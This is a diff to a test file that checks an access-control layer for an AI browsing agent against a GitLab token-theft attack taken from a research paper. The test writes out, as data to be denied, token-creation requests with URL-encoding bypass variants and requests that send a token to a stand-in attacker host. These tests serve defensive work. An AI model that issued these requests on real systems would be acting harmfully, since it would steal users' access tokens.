@@ -1,7 +1,7 @@
 /** The examples of the ceLLMate paper, its Figures 4 to 10, from their documents through a session. */
-import { existsSync } from 'node:fs';
 import { type OpenSession, openSession, type SendInput } from 'cordon';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { publishedForge } from './support/published-forge.ts';
 
 const FORM = { 'content-type': 'application/x-www-form-urlencoded' } as const;
 
@@ -112,72 +112,65 @@ describe('section 7.3: a purchase once', () => {
   });
 });
 
-const GITLAB = '../shared/data/gitlab.com';
-
-describe.skipIf(!existsSync(GITLAB))(
-  'Figure 5: the token attack on GitLab (skipped where ../shared/data is absent)',
-  () => {
-    const policy = {
-      cordon: 1,
-      scope: { goal: 'interact', domains: ['gitlab.com'] },
-      sites: {
-        'gitlab.com': {
-          sitemap: `${GITLAB}/sitemap.json`,
-          // The published file knows its mutations by their names alone.
-          graphql: { createWorkItemNote: ['createNote'] },
-          policies: [
-            {
-              name: 'comment_issue',
-              effect: 'allow',
-              actions: ['Create new issue note', 'Single project issue'],
-              description: 'Comment on issues',
-            },
-          ],
-          select: ['comment_issue'],
-        },
+describe('Figure 5: the token attack on GitLab', () => {
+  const policy = {
+    cordon: 1,
+    scope: { goal: 'interact', domains: ['gitlab.com'] },
+    sites: {
+      'gitlab.com': {
+        sitemap: JSON.parse(publishedForge()),
+        // As published: mutations are known by their names alone.
+        graphql: { createWorkItemNote: ['createNote'] },
+        policies: [
+          {
+            name: 'comment_issue',
+            effect: 'allow',
+            actions: ['Comment on issue', 'See issue'],
+            description: 'Comment on issues',
+          },
+        ],
+        select: ['comment_issue'],
       },
-    };
-    const api = 'https://gitlab.com/api/graphql';
-    const note = (name: string, field: string): SendInput => ({
-      method: 'POST',
-      url: api,
-      headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({
-        operationName: name,
-        query: `mutation ${name}($input: Input!) { ${field}(input: $input) { errors } }`,
-        variables: { input: { body: 'Thanks' } },
-      }),
-    });
+    },
+  };
+  const api = 'https://gitlab.com/api/graphql';
+  const note = (name: string, field: string): SendInput => ({
+    method: 'POST',
+    url: api,
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({
+      operationName: name,
+      query: `mutation ${name}($input: Input!) { ${field}(input: $input) { errors } }`,
+      variables: { input: { body: 'Thanks' } },
+    }),
+  });
 
-    it('the issue is read and commented on; no token is made and nothing reaches the attacker', async () => {
-      const session = await open(policy, 'Comment on issue 30 of johannr-dev/agent on gitlab.com');
-      const issue = 'https://gitlab.com/johannr-dev/agent/-/issues/30';
-      expect(await said(session, { method: 'GET', url: issue })).toBe(
-        'allow send.sitemap.selected Single project issue',
-      );
-      expect(await said(session, note('createWorkItemNote', 'createNote'))).toBe(
-        'allow send.sitemap.selected Create new issue note',
-      );
-      const tokens = 'https://gitlab.com/-/user_settings/personal_access_tokens';
-      const body = 'personal_access_token[name]=x&personal_access_token[scopes][]=api';
-      const token = 'deny send.sitemap.unselected Create a personal access token for a user';
-      for (const url of [
-        tokens,
-        `${tokens}/`,
-        `${tokens}.json`,
-        `${tokens}?x=1`,
-        tokens.replace('/-/', '//-/'),
-        tokens.replace('-', '%2D'),
-      ]) {
-        expect([url, await said(session, { method: 'POST', url, headers: FORM, body })]).toEqual([url, token]);
-      }
-      expect(await said(session, note('createWorkItemNote', 'workItemDelete'))).toMatch(/^deny /);
-      for (const url of ['https://evil.example/collect?token=glpat-x', 'wss://evil.example/collect']) {
-        expect(await said(session, { method: 'GET', url })).toBe('deny send.domain.outside');
-      }
-    });
-  },
-);
+  it('the issue is read and commented on; no token is made and nothing reaches the attacker', async () => {
+    const session = await open(policy, 'Comment on issue 30 of johannr-dev/agent on gitlab.com');
+    const issue = 'https://gitlab.com/johannr-dev/agent/-/issues/30';
+    expect(await said(session, { method: 'GET', url: issue })).toBe('allow send.sitemap.selected See issue');
+    expect(await said(session, note('createWorkItemNote', 'createNote'))).toBe(
+      'allow send.sitemap.selected Comment on issue',
+    );
+    const tokens = 'https://gitlab.com/-/user_settings/personal_access_tokens';
+    const body = 'personal_access_token[name]=x&personal_access_token[scopes][]=api';
+    const token = 'deny send.sitemap.unselected Make access token';
+    for (const url of [
+      tokens,
+      `${tokens}/`,
+      `${tokens}.json`,
+      `${tokens}?x=1`,
+      tokens.replace('/-/', '//-/'),
+      tokens.replace('-', '%2D'),
+    ]) {
+      expect([url, await said(session, { method: 'POST', url, headers: FORM, body })]).toEqual([url, token]);
+    }
+    expect(await said(session, note('createWorkItemNote', 'workItemDelete'))).toMatch(/^deny /);
+    for (const url of ['https://evil.example/collect?token=glpat-x', 'wss://evil.example/collect']) {
+      expect(await said(session, { method: 'GET', url })).toBe('deny send.domain.outside');
+    }
+  });
+});
 
 describe('section 3.4: the reservation on Airbnb', () => {
   const reserve = (checkin: string, checkout: string, guests: string): SendInput => ({
